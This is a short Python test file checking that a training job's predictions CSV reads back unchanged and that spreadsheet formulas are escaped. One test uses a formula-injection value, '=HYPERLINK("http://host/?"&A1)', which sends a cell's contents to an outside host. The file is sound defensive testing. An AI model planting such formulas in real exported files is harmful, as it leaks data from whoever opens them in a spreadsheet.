"""The file of what a training said: it comes back as it was, and no spreadsheet runs it."""

from hypothesis import given
from hypothesis import strategies as st

from evenhand.training.job_folder import (
    PREDICTIONS_FILE,
    TextPrediction,
    read_predictions,
    write_predictions_csv,
)

TEXTS = st.text(st.characters(exclude_categories=("C",)), min_size=1).filter(str.strip)


def test_a_formula_is_kept_from_spreadsheets_and_comes_back(tmp_path):
    row = TextPrediction("test", '=HYPERLINK("http://host/?"&A1)', "good", "bad")
    (tmp_path / PREDICTIONS_FILE).write_text(write_predictions_csv(["good", "bad"], [(row, [0.25, 0.75])]))
    head, line = (tmp_path / PREDICTIONS_FILE).read_text().splitlines()
    assert head == '"part","text","label","said","p_good","p_bad"'
    assert line.startswith('"test","\'=HYPERLINK(')
    assert line.endswith(',"good","bad",0.2500,0.7500')
    assert read_predictions(tmp_path / PREDICTIONS_FILE) == [row]


@given(st.lists(st.builds(TextPrediction, st.sampled_from(["dev", "test"]), TEXTS, TEXTS, TEXTS), min_size=1))
def test_what_is_written_is_read(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("said") / PREDICTIONS_FILE
    path.write_text(write_predictions_csv(["a"], ((row, [1.0]) for row in rows)), encoding="utf-8")
    assert read_predictions(path) == rows
